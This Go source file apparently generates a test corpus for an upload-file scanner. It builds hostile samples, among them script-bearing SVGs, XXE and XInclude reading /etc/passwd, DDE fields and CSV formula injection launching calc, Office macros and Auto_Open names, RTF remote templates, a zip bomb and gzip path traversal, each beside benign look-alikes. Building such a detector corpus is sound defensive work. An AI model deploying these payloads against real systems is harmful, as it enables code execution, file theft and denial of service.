package uploadcorpus

import (
	"fmt"
	"strings"
	"unicode/utf16"
)

func wide(s string, big bool) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune("\ufeff" + s)) {
		if big {
			b = append(b, byte(u>>8), byte(u)) //nolint:gosec // halves
		} else {
			b = append(b, byte(u), byte(u>>8)) //nolint:gosec // halves
		}
	}
	return b
}

func (g *generator) drawings() {
	for _, s := range []string{
		`<rect style="behavior:url(x.htc)"/>`, `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#x"/>`, `<style>a{b:\75rl(http://x)}</style>`,
		`<g style="b:u\rl(http://x)"/>`, `<style>a{b:image-set("http://x" 1x)}</style>`, `<style>a{content:"/*";b:url(http://x)}</style>`, `<a ping="http://x" href="#"/>`,
		`<a href="view-source:javascript:x"/>`, `<style>@\69mport "http://x";</style>`, `<rect fill="url(//x/y.svg#a)"/>`, `<feImage href="http://x/y"/>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">x</x:script>`,
	} {
		g.add("svg", "an SVG with "+s, "a.svg", "image/svg+xml", []byte(svgOpen+s+"</svg>"), true)
		g.add("svg", "in UTF-16, the other way, an SVG with "+s, "a.svg", "image/svg+xml", wide(svgOpen+s+"</svg>", true), true)
	}
	for _, s := range []string{
		`<!DOCTYPE svg SYSTEM "http://x/evil.dtd"><svg/>`, `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "x">]><svg/>`, `<?xml version="1.0" encoding="cp1047"?><svg/>`,
		`<?xml version="1.0" encoding = 'ISO-2022-JP'?><svg/>`,
	} {
		g.add("svg", s, "a.svg", "image/svg+xml", []byte(s), true)
	}
	for _, s := range []string{
		`<r><x:script xmlns:x="http://www.w3.org/1999/xhtml">x</x:script></r>`, `<r><svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg></r>`,
		`<?xml-stylesheet href="#s" type="text/xsl"?><r><script>x</script></r>`, `<r xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file:///etc/passwd"/></r>`,
		`<job id="x"><script language="JScript">x</script></job>`,
	} {
		g.add("svg", s, "a.xml", "application/xml", []byte(s), true)
	}
	for _, s := range []string{`<style>/* url(http://x) */ a{fill:url(#g)}</style>`, `<a href="mailto:a@b"><text>x</text></a>`, `<style>a{font-family:"a b";src:url("data:font/woff2;base64,AA")}</style>`} {
		g.add("honest", "an SVG with "+s, "a.svg", "image/svg+xml", []byte(svgOpen+s+"</svg>"), false)
		g.add("honest", "in UTF-16, an SVG with "+s, "a.svg", "image/svg+xml", wide(svgOpen+s+"</svg>", false), false)
	}
	g.add("honest", "an SVG behind a long licence", "a.svg", "image/svg+xml", []byte("<?xml version='1.0'?>\n<!--"+strings.Repeat(" licence", 250)+"-->"+svgOpen+"</svg>"), false)
	g.add("honest", "an XML with a document type elsewhere", "a.xml", "application/xml", []byte(`<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>`), false)
	g.add("honest", "an XML with an element of that name", "a.xml", "application/xml", []byte(`<project xmlns="http://maven.apache.org/POM/4.0.0"><script>ant</script></project>`), false)
}

func (g *generator) documents() {
	word := func(what string, more ...member) {
		g.add("office", "a document with "+what, "a.docx", docx, wordOf(more...), true)
	}
	rels := func(kind, target, mode string) member {
		return member{"word/_rels/document.xml.rels", relOpen + `<Relationship Id="r1" Type="` + relType + kind + `" Target="` + target + `"` + mode + `/></Relationships>`}
	}
	const outside = ` TargetMode="External"`
	word("macros under another name", rels("vbaProject", "x.dat", ""), member{"word/x.dat", "x"})
	word("a macro sheet elsewhere", rels("xlMacrosheet", "x.xml", ""), member{"word/x.xml", "<x/>"})
	word("an ActiveX control", member{"word/activeX/a.xml", `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>`})
	word("an OLE object as a picture", member{"word/media/image1.png", string(oleOf("x"))})
	word("a page taken in", rels("aFChunk", "x.mht", ""), member{"word/x.mht", "MIME-Version: 1.0"})
	for _, kind := range []string{"aFChunk", "settings", "webSettings", "glossaryDocument", "printerSettings", "control", "package"} {
		word("an external "+kind, rels(kind, "http://x/y", outside))
	}
	for _, target := range []string{"search-ms:query=x", "ms-msdt:/id", "vbscript:x"} {
		word("a link to "+target, rels("hyperlink", target, outside))
	}
	const begin, end = `<w:fldChar w:fldCharType="begin"/>`, `<w:fldChar w:fldCharType="end"/>`
	for _, field := range []string{
		`<w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText>`, `<w:instrText>&#68;DE x</w:instrText>`, `<w:delInstrText>DDEAUTO x</w:delInstrText>`,
		begin + `<w:instrText>SET a </w:instrText>` + end + `<w:instrText> DDEAUTO x</w:instrText>`, `<w:instrText> INCLUDETEXT "http://x" </w:instrText>`, `<w:instrText><![CDATA[DDE x]]></w:instrText>`,
	} {
		word("the field "+field, member{"word/header.xml", "<w:p>" + begin + field + end + "</w:p>"})
	}
	for _, f := range []string{`cmd|'/c calc'!A0`, `1+MSEXCEL|&apos;x&apos;!A1`} {
		g.add("office", "the formula "+f, "a.xlsx", xlsx, sheetOf(member{"xl/worksheets/sheet1.xml", "<c><f>" + f + "</f></c>"}), true)
	}
	g.add("office", "a name that runs on opening", "a.xlsx", xlsx, sheetOf(member{"xl/names.xml", `<definedName name="_xlnm.Auto_Open">m!A1</definedName>`}), true)
	g.add("office", "an action that starts a program", "a.pptx", pptx, slidesOf(member{"ppt/slides/s.xml", `<a:hlinkClick action="ppaction://program"/>`}), true)
	g.add("office", "a listener that calls a macro", "a.odt", odt, odtOf(member{"content.xml", `<script:event-listener xlink:href="vnd.sun.star.script:x"/>`}), true)
	g.add("office", "an encrypted member", "a.odt", odt, odtOf(member{"META-INF/manifest.xml", "<manifest:encryption-data/>"}), true)
	g.add("office", "entities in any part", "a.xlsx", xlsx, sheetOf(member{"xl/x.xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///x">]><a>&x;</a>`}), true)
	for what, m := range map[string]member{
		"a formula with a bar in a string": {"xl/worksheets/sheet1.xml", `<c><f>"a|b"&amp;Sheet2!A1</f></c>`}, "a linked workbook": {"xl/externalLinks/_rels/a.rels", relOpen + `<Relationship Id="r" Type="` + relType + `externalLinkPath" Target="b.xlsx" TargetMode="External"/></Relationships>`},
		"printer settings": {"xl/printerSettings/printerSettings1.bin", "\x01\x02"},
	} {
		g.add("honest", "a sheet with "+what, "a.xlsx", xlsx, sheetOf(m), false)
	}
	for _, field := range []string{" TOC \\o ", " MERGEFIELD DDEname ", ` HYPERLINK "http://x" `, " QUOTE hello "} {
		g.add("honest", "a document with the field"+field, "a.docx", docx, wordOf(member{"word/header.xml", "<w:p>" + begin + "<w:instrText>" + field + "</w:instrText>" + end + "</w:p>"}), false)
	}
}

func (g *generator) sheetsAndTexts() {
	for _, r := range []string{
		`{\rtf1{\*\template http://x/y.dotm}}`, `{\rtf1{\field{\*\fldinst{\fs24 D}{\b DE x}}}}`, `{\rtf1{\field{\*\fldinst \'44\'44E x}}}`, `{\rtf1{\field{\*\fldinst \u68 x\u68 xE x}}}`, `{\rtf1{\object\objhtml}}`,
	} {
		g.add("text", r, "a.rtf", "application/rtf", []byte(r), true)
	}
	g.add("honest", "an RTF with a field", "a.rtf", "application/rtf", []byte(`{\rtf1{\field{\*\fldinst{\fs24 HYPERLINK "http://x"}}{\fldrslt DDE}}{\*\generator x;}}`), false)
	g.add("text", "DDE in UTF-16", "a.csv", "text/csv", wide("a,b\r\n=cmd|'/c calc'!A0,1\r\n", false), true)
	g.add("text", "DDE behind a mark", "a.csv", "text/csv", []byte("\xef\xbb\xbf=cmd|'/c calc'!A0,1\n"), true)
	g.add("text", "SYLK as CSV", "a.csv", "text/csv", []byte("ID;PWXL;N;E\nC;X1;Y1;E\"=EXEC(1)\"\nE\n"), true)
	g.add("honest", "a column ID and one Price", "a.csv", "text/csv", []byte("ID;Price\n1;2\n"), false)
	for _, s := range []string{"<?= `id` ?>", "<%@ Language=VBScript %><% x %>", "<scriptlet><script>x</script></scriptlet>"} {
		g.add("text", s, "a.txt", "text/plain", []byte(s), true)
	}
	g.add("text", "a script as JSON", "a.json", "application/json", []byte(`var x = new ActiveXObject("a")`), true)
	many := make([]member, 60)
	for i := range many {
		many[i] = member{fmt.Sprint(i), strings.Repeat("\x00", 1<<20)}
	}
	g.add("archive", "a bomb in pieces", "a.zip", "application/zip", zipOf(many...), true)
	marked := zipOf(member{"a.txt", "hello"})
	marked[strings.LastIndex(string(marked), "PK\x01\x02")+8] |= 1
	g.add("archive", "a member that only the directory calls encrypted", "a.zip", "application/zip", marked, true)
	named := gzipOf([]byte("x"))
	named[3] |= 8
	g.add("archive", "a GZIP of a file elsewhere", "a.gz", "application/gzip", append(append(append([]byte(nil), named[:10]...), "../../x\x00"...), named[10:]...), true)
}
